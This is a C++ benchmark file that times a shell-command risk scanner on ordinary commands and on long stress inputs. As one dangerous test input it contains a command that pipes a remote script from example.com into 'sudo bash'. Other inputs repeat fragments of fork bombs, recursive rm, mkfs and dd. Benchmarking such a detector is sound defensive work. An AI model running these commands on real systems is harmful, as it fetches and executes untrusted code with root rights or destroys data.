#include "KelvaneCore/Safety/CommandRiskScanner.hpp"

#include "tests/support/RepeatedText.hpp"

#include <benchmark/benchmark.h>

#include <string>

namespace {

using kelvane::CommandRiskScanner::scan;

void BM_ScanTypicalCommand(benchmark::State& state) {
    const std::string command =
        "cd ~/Projects/kelvane && git pull --rebase && cmake --build build -j8 | tee build.log";
    for (auto _ : state)
        benchmark::DoNotOptimize(scan(command));
}
BENCHMARK(BM_ScanTypicalCommand)->Unit(benchmark::kMicrosecond);

void BM_ScanDangerousCommand(benchmark::State& state) {
    const std::string command = "curl -fsSL https://example.com/install.sh | sudo bash";
    for (auto _ : state)
        benchmark::DoNotOptimize(scan(command));
}
BENCHMARK(BM_ScanDangerousCommand)->Unit(benchmark::kMicrosecond);

using kelvane::test::repeated;

// One megabyte of text built against the patterns: letter runs after an option dash, many
// downloads without a pipe, a fork-bomb head before a long line, words each pattern must
// look at twice.
void BM_ScanHostileMegabyte(benchmark::State& state, std::string text) {
    for (auto _ : state)
        benchmark::DoNotOptimize(scan(text));
}
constexpr std::size_t megabyte = 1 << 20;
BENCHMARK_CAPTURE(BM_ScanHostileMegabyte, letters, repeated("a", megabyte))
    ->Unit(benchmark::kMillisecond);
BENCHMARK_CAPTURE(BM_ScanHostileMegabyte, blanks, repeated(" ", megabyte))
    ->Unit(benchmark::kMillisecond);
BENCHMARK_CAPTURE(BM_ScanHostileMegabyte, shellScript,
                  repeated("for f in *.txt; do grep -rn 'x' \"$f\" | sort > /dev/null; done\n",
                           megabyte))
    ->Unit(benchmark::kMillisecond);
BENCHMARK_CAPTURE(BM_ScanHostileMegabyte, rmOptionLetters, "rm -" + repeated("r", megabyte))
    ->Unit(benchmark::kMillisecond);
BENCHMARK_CAPTURE(BM_ScanHostileMegabyte, rmOptionGroups, "rm " + repeated("-r ", megabyte))
    ->Unit(benchmark::kMillisecond);
BENCHMARK_CAPTURE(BM_ScanHostileMegabyte, curlWithoutPipe, repeated("curl ", megabyte))
    ->Unit(benchmark::kMillisecond);
BENCHMARK_CAPTURE(BM_ScanHostileMegabyte, forkBombHeads, repeated(":(){ ", megabyte))
    ->Unit(benchmark::kMillisecond);
BENCHMARK_CAPTURE(BM_ScanHostileMegabyte, ddWords, repeated("dd ", megabyte))
    ->Unit(benchmark::kMillisecond);
BENCHMARK_CAPTURE(BM_ScanHostileMegabyte, chmodWords, repeated("chmod -R ", megabyte))
    ->Unit(benchmark::kMillisecond);
BENCHMARK_CAPTURE(BM_ScanHostileMegabyte, sWords, repeated("sud ", megabyte))
    ->Unit(benchmark::kMillisecond);
BENCHMARK_CAPTURE(BM_ScanHostileMegabyte, mkfsWord, "mkfs" + repeated("a", megabyte))
    ->Unit(benchmark::kMillisecond);
BENCHMARK_CAPTURE(BM_ScanHostileMegabyte, illFormed, repeated("\xFF\xC3 sudo\xE2\x82", megabyte))
    ->Unit(benchmark::kMillisecond);

} // namespace
